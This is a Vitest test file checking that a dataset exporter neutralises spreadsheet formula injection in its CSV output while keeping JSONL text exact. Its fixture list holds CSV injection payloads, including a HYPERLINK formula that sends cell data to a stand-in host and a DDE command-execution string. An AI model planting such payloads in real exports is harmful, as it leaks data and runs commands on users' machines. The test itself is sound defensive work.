/** CSV exports carry no live formula; JSONL stays exact (issue 18, item 4). */
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { unzipSync } from 'fflate';
import type { Example } from '../../src/core/dataset/example.js';
import { exportDataset, toCsv, toJsonl } from '../../src/core/bundle/dataset-export.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line of the same text',
];
const at = '2026-01-01T00:00:00.000Z';
const examples: Example[] = HOSTILE.map((text, i) => ({
  id: `g-${i}`, text, label: i % 2 ? '=pos' : 'neg', split: 'train',
  provenance: { source: 'generated', round: 0, teacherModel: '@teacher', strategy: 'generate', createdAt: at },
}));
examples.push({ id: 'plain', text: 'a plain text, with a comma', label: 'neg', split: 'train', provenance: { source: 'seed', round: 0, file: '-seeds.csv', row: 2, createdAt: at } });

function cells(csv: string): string[][] {
  return Papa.parse<string[]>(csv.trimEnd(), { skipEmptyLines: false }).data;
}

describe('CSV exports and formulas', () => {
  it('every cell that starts with = + - @ TAB or CR is prefixed with a quote; nothing else changes', () => {
    const rows = cells(toCsv(examples));
    const header = rows[0];
    const body = rows.slice(1);
    expect(body).toHaveLength(examples.length);
    for (const row of body) for (const c of row) expect(c, JSON.stringify(c)).not.toMatch(/^[=+\-@\t\r]/);
    const text = header.indexOf('text');
    expect(body.map((r) => r[text])).toEqual([...HOSTILE.map((t) => `'${t}`), 'a plain text, with a comma']);
    expect(body[1][header.indexOf('label')]).toBe("'=pos");
    expect(body[0][header.indexOf('teacher_model')]).toBe("'@teacher");
    expect(body[7][header.indexOf('file')]).toBe("'-seeds.csv");
    // Numbers stay numbers.
    expect(body[7][header.indexOf('row')]).toBe('2');
  });

  it('JSONL and the Hugging Face layout keep the texts exactly', () => {
    const back = toJsonl(examples).trim().split('\n').map((l) => JSON.parse(l).text);
    expect(back).toEqual([...HOSTILE, 'a plain text, with a comma']);
    const hf = exportDataset(examples, 'hf', 'all', { name: 'x', labels: ['neg', '=pos'], createdAt: at });
    expect(hf['data/train.jsonl'].trim().split('\n').map((l) => JSON.parse(l).text)).toEqual([...HOSTILE, 'a plain text, with a comma']);
  });

  it("the app's CSV download and the bundle's data/train.csv are neutralised the same way", async () => {
    const csv = exportDataset(examples, 'csv', 'all', { name: 'x', labels: ['neg', '=pos'], createdAt: at })['dataset.csv'];
    expect(cells(csv).slice(1).every((r) => r.every((c) => !/^[=+\-@\t\r]/.test(c)))).toBe(true);
    const tf = await import('@tensorflow/tfjs');
    await tf.setBackend('cpu');
    const { fixtureExamples, trainTinyStudent } = await import('./bundle-fixture.js');
    const { writeBundle } = await import('../../src/core/bundle/export.js');
    const t = await trainTinyStudent(fixtureExamples());
    t.model.dispose();
    const hostile = t.input.examples.map((e, i) => ({ ...e, text: i < HOSTILE.length ? HOSTILE[i] : e.text }));
    const files = unzipSync(await writeBundle({ ...t.input, examples: hostile }));
    const bundled = cells(new TextDecoder().decode(files['data/train.csv']));
    expect(bundled.slice(1).every((r) => r.every((c) => !/^[=+\-@\t\r]/.test(c)))).toBe(true);
    const jsonl = new TextDecoder().decode(files['data/train.jsonl']).trim().split('\n').map((l) => JSON.parse(l).text);
    expect(jsonl.slice(0, HOSTILE.length)).toEqual(HOSTILE);
  }, 60_000);
});
